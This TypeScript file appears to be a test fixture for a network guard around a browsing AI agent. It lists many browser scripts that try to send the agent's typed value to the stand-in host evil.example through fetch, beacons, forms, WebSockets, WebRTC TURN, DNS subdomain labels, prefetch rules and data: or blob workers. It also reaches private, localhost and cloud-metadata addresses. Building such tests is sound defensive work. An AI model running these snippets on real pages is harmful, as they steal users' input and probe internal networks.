/** What carries a request out. The first eight are those that a guard of requests alone misses most easily. */
export const WAYS = [
  'redirects',
  'shared workers',
  'WebSockets',
  'WebRTC',
  'QUIC',
  'loading ahead',
  'data:',
  'private addresses',
  'names',
  'service workers',
  'requests',
] as const
export type Way = (typeof WAYS)[number]

/** A way in which a page tries to leak what the agent typed: scripts of the page, and other files that it serves. */
export interface Trick {
  readonly way: Way
  readonly name: string
  /** Runs when the button is pressed. `V` is the value that the agent typed. */
  readonly script: string
}

type Scripts = readonly (readonly [name: string, script: string])[]
type Ways = Partial<Readonly<Record<Way, Scripts>>>

const tricks = (ways: Ways): readonly Trick[] =>
  WAYS.flatMap((way) => (ways[way] ?? []).map(([name, script]) => ({ way, name, script })))

const E = 'http://evil.example'
const S = 'https://evil.example'
const add = (html: string) => `document.body.insertAdjacentHTML('beforeend', ${html})`
const quietly = (url: string) => `fetch('${url}',{mode:'no-cors'})`
/** A script inside of a `data:` address, inside of a script. */
const inData = (script: string) =>
  `'data:text/javascript,'+encodeURIComponent(${JSON.stringify(script)}.replace('V',V))`
const inBlob = (script: string) =>
  `URL.createObjectURL(new Blob([${JSON.stringify(script)}.replace('V',V)],{type:'text/javascript'}))`
const offer = (server: string) =>
  `const p=new RTCPeerConnection({iceServers:[${server}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`
const rules = (kind: 'prefetch' | 'prerender', url: string) =>
  `const s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({${kind}:[{urls:[${url}],eagerness:'immediate'}]});document.head.append(s)`

/** None of these may reach `evil.example` or a private address, or send a changing request anywhere. */
export const EGRESS_TRICKS: readonly Trick[] = tricks({
  redirects: [
    ['a request', `fetch('/to-evil?'+V,{mode:'no-cors'})`],
    ['a request that keeps its method', `fetch('/keep-method',{method:'POST',mode:'no-cors',body:V})`],
    [
      'a form that keeps its method',
      add(`'<form id=f method=post action="/keep-method"><input name=v value="'+V+'"></form>'`) +
        `;f.submit()`,
    ],
    ['a picture', `new Image().src='/to-evil?'+V`],
    ['a page', `location.href='/to-evil?'+V`],
    ['a frame', add(`'<iframe src="/to-evil?'+V+'"></iframe>'`)],
  ],
  'shared workers': [
    ['of the site', `new SharedWorker('/shared.js#'+V)`],
    ['of data:', `new SharedWorker(${inData(quietly(`${E}/sd?V`))})`],
    ['of a blob', `new SharedWorker(${inBlob(quietly(`${E}/sb?V`))})`],
  ],
  WebSockets: [
    ['to another host', `new WebSocket('ws://evil.example/ws?'+V)`],
    ['to its own host', `const w=new WebSocket('ws://shop.example/ws');w.onopen=()=>w.send(V)`],
    ['to a name that tells', `new WebSocket('ws://'+V+'.evil.example/')`],
    ['over TLS to a name that tells', `new WebSocket('wss://'+V+'.evil.example/')`],
    ['from a worker', `new Worker(${inBlob(`new WebSocket('ws://evil.example/ww?V')`)})`],
  ],
  WebRTC: [
    ['by TURN over TCP', offer(`{urls:'turn:evil.example:80?transport=tcp',username:V,credential:V}`)],
    [
      'to a name that tells',
      offer(`{urls:'turn:'+V+'.evil.example:80?transport=tcp',username:'a',credential:'b'}`),
    ],
  ],
  'loading ahead': [
    ['a page', add(`'<link rel=prefetch href="${E}/pf?'+V+'">'`)],
    ['a script', add(`'<link rel=preload as=script href="${E}/pl?'+V+'">'`)],
    ['a module', add(`'<link rel=modulepreload href="${E}/mp?'+V+'">'`)],
    ['by rules, without TLS', rules('prefetch', `'${E}/sq?'+V`)],
    ['a page of its own host that posts', rules('prerender', `'/posts'`)],
    ['a connection', add(`'<link rel=preconnect href="${S}">'`)],
    ['a connection to a name that tells', add(`'<link rel=preconnect href="https://'+V+'b.evil.example">'`)],
    ['a name that tells', add(`'<link rel=dns-prefetch href="//'+V+'.evil.example">'`)],
    ['a page at a name that tells', add(`'<link rel=prefetch href="https://'+V+'c.evil.example/">'`)],
  ],
  'data:': [
    ['a frame', add(`'<iframe src="data:text/html,<img src=${E}/dt?'+V+'>"></iframe>'`)],
    ['an object', add(`'<object data="data:text/html,<img src=${E}/do?'+V+'>"></object>'`)],
    [
      'a frame that submits a form',
      add(
        `'<iframe src="data:text/html,<form method=post action=${E}/df><input name=v value='+V+'></form><script>document.forms[0].submit()</script>"></iframe>'`.replace(
          '</script>',
          '<\\/script>',
        ),
      ),
    ],
    [
      'a style sheet',
      add(`'<link rel=stylesheet href="data:text/css,body{background:url(${E}/ds?'+V+')}">'`),
    ],
    ['a worker', `new Worker(${inData(quietly(`${E}/dw?V`))})`],
  ],
  'private addresses': [
    ['an address', `fetch('http://10.0.0.5/?'+V,{mode:'no-cors'})`],
    ['a picture at an address', `new Image().src='http://10.0.0.5/i?'+V`],
    ['a name that leads to one', `fetch('http://inside.example/?'+V,{mode:'no-cors'})`],
    [
      'a form to a name that leads to one',
      add(`'<form id=f method=post action="http://inside.example/"><input name=v value="'+V+'"></form>'`) +
        `;f.submit()`,
    ],
    ['a frame at a name that leads to one', add(`'<iframe src="http://inside.example/fr?'+V+'"></iframe>'`)],
    ['a name of this machine', `fetch('http://localhost/?'+V,{mode:'no-cors'})`],
    ['this machine, written as a number', `fetch('http://2130706433/?'+V,{mode:'no-cors'})`],
    ['this machine, by IPv6', `fetch('http://[::1]/?'+V,{mode:'no-cors'})`],
    ['the facts of a machine in a cloud', `fetch('http://169.254.169.254/latest/?'+V,{mode:'no-cors'})`],
    ['a port of ours', `fetch('http://127.0.0.1:7777/?'+V,{mode:'no-cors'})`],
    ['a name of ours', `fetch('http://own.example/?'+V,{mode:'no-cors'})`],
  ],
  names: [
    ['a request', `fetch('http://'+V+'.evil.example/',{mode:'no-cors'})`],
    ['a request over TLS', `fetch('https://'+V+'.evil.example/',{mode:'no-cors'})`],
    ['a picture', `new Image().src='http://'+V+'.evil.example/'`],
    ['three pictures', `for(let i=0;i<3;i++)new Image().src='http://'+V+i+'.evil.example/x'`],
    ['a page', `location.href='https://'+V+'.evil.example/'`],
    ['a window', `window.open('http://'+V+'.evil.example/')`],
  ],
  requests: [
    ['fetch GET', `fetch('${E}/?'+V,{mode:'no-cors'})`],
    ['fetch POST', `fetch('${E}/',{method:'POST',mode:'no-cors',body:V})`],
    ['fetch PUT to its own host', `fetch('/put',{method:'PUT',body:V})`],
    ['fetch DELETE to its own host', `fetch('/x',{method:'DELETE'})`],
    ['fetch keepalive', `fetch('${E}/',{method:'POST',mode:'no-cors',keepalive:true,body:V})`],
    ['XHR', `const x=new XMLHttpRequest();x.open('POST','${E}/');x.send(V)`],
    ['XHR to its own host', `const x=new XMLHttpRequest();x.open('POST','/x');x.send(V)`],
    ['beacon', `navigator.sendBeacon('${E}/',V)`],
    ['beacon to its own host', `navigator.sendBeacon('/b',V)`],
    ['image', `new Image().src='${E}/i?'+V`],
    ['script', `const s=document.createElement('script');s.src='${E}/s?'+V;document.head.append(s)`],
    ['style sheet', add(`'<link rel=stylesheet href="${E}/c?'+V+'">'`)],
    [
      'font',
      add(`'<style>@font-face{font-family:x;src:url(${E}/f?'+V+')}</style><p style="font-family:x">x</p>'`),
    ],
    ['background picture', `document.body.style.background='url(${E}/bg?'+V+')'`],
    ['video', add(`'<video autoplay src="${E}/v?'+V+'"></video>'`)],
    ['object', add(`'<object data="${E}/o?'+V+'"></object>'`)],
    ['frame', add(`'<iframe src="${E}/fr?'+V+'"></iframe>'`)],
    ['frame with srcdoc', add(`'<iframe srcdoc="<img src=${E}/sd?'+V+'>"></iframe>'`)],
    [
      'form by POST',
      add(`'<form id=f method=post action="${E}/p"><input name=v value="'+V+'"></form>'`) + `;f.submit()`,
    ],
    ['form by GET', add(`'<form id=f action="${E}/g"><input name=v value="'+V+'"></form>'`) + `;f.submit()`],
    [
      'form into a new window',
      add(`'<form id=f method=post target=_blank action="${E}/w"><input name=v value="'+V+'"></form>'`) +
        `;f.submit()`,
    ],
    [
      'form into a frame',
      add(
        `'<iframe name=q></iframe><form id=f method=post target=q action="${E}/q"><input name=v value="'+V+'"></form>'`,
      ) + `;f.submit()`,
    ],
    [
      'form to its own host',
      add(`'<form id=f method=post action="/own"><input name=v value="'+V+'"></form>'`) + `;f.submit()`,
    ],
    ['location', `location.href='${E}/l?'+V`],
    ['window.open', `window.open('${E}/wo?'+V)`],
    ['meta refresh', add(`'<meta http-equiv=refresh content="0;url=${E}/m?'+V+'">'`)],
    ['ping of a link', add(`'<a id=a href="#" ping="${E}/ping">x</a>'`) + `;a.click()`],
    ['EventSource', `new EventSource('${E}/es?'+V)`],
    ['worker', `new Worker(${inBlob(`fetch('${E}/wk',{method:'POST',mode:'no-cors',body:'V'})`)})`],
    [
      'worker that posts home',
      `new Worker(${inBlob(`fetch('http://shop.example/wk',{method:'POST',mode:'no-cors',body:'V'})`)})`,
    ],
    ['CSP report', `location.href='/csp?'+V`],
  ],
})

/** The same from a page over TLS, where the proxy sees hosts alone. */
export const SECURE_TRICKS: readonly Trick[] = tricks({
  redirects: [
    ['a request', `fetch('/to-evil?'+V,{mode:'no-cors'})`],
    ['a page', `location.href='/to-evil?'+V`],
    ['a request that keeps its method', `fetch('/keep-method',{method:'POST',mode:'no-cors',body:V})`],
  ],
  'shared workers': [['of the site', `new SharedWorker('/shared.js#'+V)`]],
  'service workers': [['of the site', `navigator.serviceWorker.register('/sw.js')`]],
  WebSockets: [
    ['to another host', `new WebSocket('wss://evil.example/?'+V)`],
    ['to a name that tells', `new WebSocket('wss://'+V+'.evil.example/')`],
    ['to its own host', `const w=new WebSocket('wss://shop.example/ws');w.onopen=()=>w.send(V)`],
  ],
  WebRTC: [
    ['by TURN over TLS', offer(`{urls:'turns:evil.example:443?transport=tcp',username:V,credential:V}`)],
  ],
  QUIC: [['WebTransport', `new WebTransport('https://evil.example/'+V)`]],
  'loading ahead': [
    ['a page', add(`'<link rel=prefetch href="${S}/pf?'+V+'">'`)],
    ['by rules', rules('prefetch', `'${S}/sq?'+V`)],
    ['a connection', add(`'<link rel=preconnect href="https://'+V+'.evil.example">'`)],
  ],
  requests: [
    ['fetch', `fetch('${S}/?'+V,{mode:'no-cors'})`],
    ['POST', `fetch('${S}/',{method:'POST',mode:'no-cors',body:V})`],
    ['POST to its own host', `fetch('/own',{method:'POST',body:V})`],
    ['beacon', `navigator.sendBeacon('${S}/',V)`],
    ['image', `new Image().src='${S}/i?'+V`],
    ['location', `location.href='${S}/l?'+V`],
    [
      'form by POST',
      add(`'<form id=f method=post action="${S}/p"><input name=v value="'+V+'"></form>'`) + `;f.submit()`,
    ],
    ['worker', `new Worker(${inBlob(quietly(`${S}/wk?V`))})`],
  ],
})
